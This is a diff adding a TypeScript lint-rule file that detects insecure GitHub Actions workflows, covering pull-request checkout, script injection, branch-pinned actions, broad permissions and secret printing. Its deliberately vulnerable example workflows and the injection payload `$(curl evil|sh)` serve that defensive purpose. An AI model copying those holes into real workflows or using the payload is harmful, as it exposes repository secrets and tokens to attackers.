@@ -1,0 +1,217 @@
+// Rules about GitHub Actions: who may run code with the repository's rights.
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the examples hold expressions of shells and of GitHub Actions
+import type { InspectedFile } from "../../../ports.ts";
+import type { LineRule, Match } from "../rule.ts";
+import { type KnownLine, knownLines } from "./known-lines.ts";
+import { isComment, isWorkflow, lineRule, matchAt, searchLines } from "./line-rule.ts";
+
+const WORKFLOW = ".github/workflows/ci.yml";
+const TARGET =
+  /^\s*(?:-\s*)?["']?(?:pull_request_target|workflow_run)["']?\s*:?\s*$|^["']?on["']?\s*:\s*\[?[^#]{0,200}\b(?:pull_request_target|workflow_run)\b/;
+const HEAD_REF =
+  /^\s*(?:-\s*)?(?:ref|repository)\s*:[^#]{0,200}(?:github\.event\.pull_request\.head\.|github\.head_ref|github\.event\.workflow_run\.head_|refs\/pull\/)/;
+const HEAD_COMMAND =
+  /\bgit\s+(?:fetch|checkout|pull)\b[^#]{0,200}(?:pull_request\.head\.|github\.head_ref|refs\/pull\/|pull\/\$)|\bgh\s+pr\s+checkout\b/;
+
+const untrustedCheckout = lineRule({
+  id: "workflow-runs-untrusted-code",
+  title: "Privileged workflow checks out the code of a pull request",
+  severity: "critical",
+  category: "security",
+  confidence: 0.75,
+  why: "`pull_request_target` and `workflow_run` hold secrets and a writing token; anybody can open a pull request whose code then runs with them.",
+  mend: "Use `pull_request`, or split the work: build without secrets, then act on the result in a second workflow that runs no code of the pull request.",
+  bad: [
+    {
+      path: WORKFLOW,
+      code: "on:\n  pull_request_target:\njobs:\n  build:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: npm ci",
+    },
+    {
+      path: WORKFLOW,
+      code: "on: [pull_request_target]\njobs:\n  a:\n    steps:\n      - run: gh pr checkout $NUMBER && make",
+    },
+  ],
+  good: [
+    {
+      path: WORKFLOW,
+      code: "on:\n  pull_request:\njobs:\n  build:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}",
+    },
+    { path: WORKFLOW, code: "on: pull_request_target\njobs:\n  label:\n    steps:\n      - uses: actions/labeler@v5" },
+  ],
+  check: (file) => (isWorkflow(file) ? untrusted(file) : []),
+});
+
+function untrusted(file: InspectedFile): readonly Match[] {
+  const lines = knownLines(file).filter(({ text }) => text.length < 1000 && !isComment(text));
+  const trigger = lines.find(({ text }) => TARGET.test(text));
+  const checkouts = lines.filter(({ text }) => HEAD_REF.test(text) || HEAD_COMMAND.test(text));
+  if (trigger === undefined || checkouts.length === 0) return [];
+  const added = checkouts.filter((line) => line.added);
+  return (added.length > 0 ? added : [trigger]).map(({ line }) => matchAt(line, {}));
+}
+
+const WRITTEN_BY_OTHERS =
+  /\$\{\{[^}]{0,200}\b(?:github\.event\.(?:issue\.(?:title|body)|pull_request\.(?:title|body|head\.(?:ref|label|repo\.default_branch))|comment\.body|review\.body|review_comment\.body|discussion\.(?:title|body)|head_commit\.(?:message|author\.(?:name|email))|commits\b[^}]{0,40}\.(?:message|name|email)|pages\b[^}]{0,40}\.page_name|workflow_run\.(?:head_branch|display_title|head_commit\.message))|github\.head_ref)\b[^}]{0,100}\}\}/;
+const SCRIPT_KEY = /^\s*(?:-\s*)?(?:run|script)\s*:/;
+
+const scriptInjection = lineRule({
+  id: "workflow-script-injection",
+  title: "Workflow pastes text of others into a script",
+  severity: "critical",
+  category: "security",
+  confidence: 0.85,
+  why: "The expression is replaced before the shell starts, so that a title such as `$(curl evil|sh)` runs with the workflow's token.",
+  mend: 'Hand the value over through `env:` and use it quoted: `"$TITLE"`.',
+  bad: [
+    { path: WORKFLOW, code: '    steps:\n      - run: echo "${{ github.event.pull_request.title }}"' },
+    {
+      path: WORKFLOW,
+      code: "    steps:\n      - name: Branch\n        run: |\n          git checkout ${{ github.head_ref }}",
+    },
+  ],
+  good: [
+    {
+      path: WORKFLOW,
+      code: '      - run: echo "$TITLE"\n        env:\n          TITLE: ${{ github.event.pull_request.title }}',
+    },
+    { path: WORKFLOW, code: "      - run: echo ${{ github.event.pull_request.number }} ${{ github.sha }}" },
+    { path: WORKFLOW, code: "concurrency:\n  group: ci-${{ github.head_ref }}" },
+  ],
+  check: (file) => {
+    if (!isWorkflow(file)) return [];
+    const lines = knownLines(file);
+    return searchLines(file, (text, at) => (WRITTEN_BY_OTHERS.test(text) && isInScript(lines, at) ? {} : null));
+  },
+});
+
+/** True when a line is a `run:` or `script:` entry, or stands in the block below one. */
+function isInScript(lines: readonly KnownLine[], at: KnownLine): boolean {
+  if (SCRIPT_KEY.test(at.text)) return true;
+  const indent = indentOf(at.text);
+  let expected = at.line - 1;
+  for (let index = lines.indexOf(at) - 1; index >= 0; index--) {
+    const line = lines[index];
+    if (line === undefined || line.line !== expected) return false;
+    expected--;
+    if (line.text.trim() === "" || indentOf(line.text) >= indent) continue;
+    return /^\s*(?:-\s*)?(?:run|script)\s*:\s*[|>][+-]?\d?\s*(?:#.*)?$/.test(line.text);
+  }
+  return false;
+}
+
+function indentOf(text: string): number {
+  return text.length - text.trimStart().length;
+}
+
+const ON_BRANCH =
+  /^\s*(?:-\s*)?uses\s*:\s*["']?([\w.-]+)\/([\w./-]+)@(main|master|develop|dev|trunk|HEAD)["']?\s*(?:#.*)?$/;
+/** GitHub's own, and actions whose documentation asks for a branch. */
+const TRUSTED_BRANCHES = new Set(["actions", "github", "dtolnay"]);
+
+const actionOnBranch = lineRule({
+  id: "workflow-action-on-branch",
+  title: "Action of a third party follows a branch",
+  severity: "medium",
+  category: "security",
+  confidence: 0.6,
+  why: "Whoever can push to that branch changes what runs here, with this workflow's secrets and without a review.",
+  mend: "Pin the action to a full commit SHA, with the version in a comment.",
+  bad: [
+    { path: WORKFLOW, code: "      - uses: acme/deploy-action@main" },
+    { path: WORKFLOW, code: "      - uses: someone/setup/sub@master # latest" },
+  ],
+  good: [
+    { path: WORKFLOW, code: "      - uses: acme/deploy-action@8f4b7f84864484a7bf31766abe9204da3cbe65b3 # v3.5.0" },
+    {
+      path: WORKFLOW,
+      code: "      - uses: actions/checkout@main\n      - uses: ./local/action\n      - uses: acme/deploy-action@v2",
+    },
+  ],
+  check: (file) =>
+    isWorkflow(file)
+      ? searchLines(file, (text) => {
+          const [, owner, name, branch] = ON_BRANCH.exec(text) ?? [];
+          return owner === undefined || TRUSTED_BRANCHES.has(owner) ? null : { detail: `${owner}/${name}@${branch}` };
+        })
+      : [],
+});
+
+const WRITE_ALL = /^\s*permissions\s*:\s*["']?write-all\b/;
+
+const writeAll = lineRule({
+  id: "workflow-write-all",
+  title: "Workflow gets every permission",
+  severity: "medium",
+  category: "security",
+  confidence: 0.8,
+  why: "Any step, and any action it uses, can then push code, publish packages and change releases.",
+  mend: "Grant what the job needs, such as `permissions: { contents: read }`.",
+  bad: [
+    { path: WORKFLOW, code: "permissions: write-all" },
+    { path: WORKFLOW, code: "jobs:\n  a:\n    permissions: write-all # later" },
+  ],
+  good: [
+    { path: WORKFLOW, code: "permissions: read-all" },
+    { path: WORKFLOW, code: "permissions:\n  contents: write" },
+  ],
+  check: (file) => (isWorkflow(file) ? searchLines(file, (text) => (WRITE_ALL.test(text) ? {} : null)) : []),
+});
+
+const PRINTS_SECRET =
+  /^\s*(?:-\s*)?(?:run\s*:\s*)?(?:echo|printf|print|Write-(?:Host|Output))\b[^|>#]{0,300}\$\{\{\s*secrets\.(?!GITHUB_TOKEN\b)[\w.]{1,100}\s*\}\}[^|>]{0,300}$/;
+const ALL_SECRETS = /\btoJSON\(\s*secrets\s*\)/i;
+
+const secretPrinted = lineRule({
+  id: "workflow-prints-secret",
+  title: "Workflow hands out secrets",
+  severity: "major",
+  category: "security",
+  confidence: 0.65,
+  why: "Logs mask a secret only where it appears unchanged; any encoding of it stays readable, and all secrets at once reach every tool of the step.",
+  mend: "Pass the one secret that the step needs through `env:`, and do not print it.",
+  bad: [
+    { path: WORKFLOW, code: '      - run: echo "token is ${{ secrets.DEPLOY_TOKEN }}"' },
+    { path: WORKFLOW, code: "        env:\n          ALL: ${{ toJSON(secrets) }}" },
+  ],
+  good: [
+    { path: WORKFLOW, code: '      - run: echo "${{ secrets.DEPLOY_KEY }}" > key.pem' },
+    { path: WORKFLOW, code: '      - run: echo "${{ secrets.REGISTRY }}" | docker login --password-stdin' },
+    { path: WORKFLOW, code: "        env:\n          TOKEN: ${{ secrets.DEPLOY_TOKEN }}" },
+  ],
+  check: (file) =>
+    isWorkflow(file)
+      ? searchLines(file, (text) =>
+          !isComment(text) && (PRINTS_SECRET.test(text) || ALL_SECRETS.test(text)) ? {} : null,
+        )
+      : [],
+});
+
+const UNSECURE = /^\s*(?:export\s+)?ACTIONS_ALLOW_UNSECURE_COMMANDS\s*[:=]\s*["']?true\b/i;
+
+const unsecureCommands = lineRule({
+  id: "workflow-unsecure-commands",
+  title: "Workflow allows commands from its output",
+  severity: "major",
+  category: "security",
+  confidence: 0.9,
+  why: "`set-env` and `add-path` let anything that prints to the log change the environment of later steps (CVE-2020-15228).",
+  mend: "Write to `$GITHUB_ENV` and `$GITHUB_PATH` instead, and remove the setting.",
+  bad: [
+    { path: WORKFLOW, code: "    env:\n      ACTIONS_ALLOW_UNSECURE_COMMANDS: true" },
+    { path: WORKFLOW, code: "      ACTIONS_ALLOW_UNSECURE_COMMANDS: 'true'" },
+  ],
+  good: [
+    { path: WORKFLOW, code: "      ACTIONS_ALLOW_UNSECURE_COMMANDS: false" },
+    { path: WORKFLOW, code: '      - run: echo "A=b" >> "$GITHUB_ENV"' },
+  ],
+  check: (file) => (isWorkflow(file) ? searchLines(file, (text) => (UNSECURE.test(text) ? {} : null)) : []),
+});
+
+export const WORKFLOW_RULES: readonly LineRule[] = [
+  untrustedCheckout,
+  scriptInjection,
+  actionOnBranch,
+  writeAll,
+  secretPrinted,
+  unsecureCommands,
+];
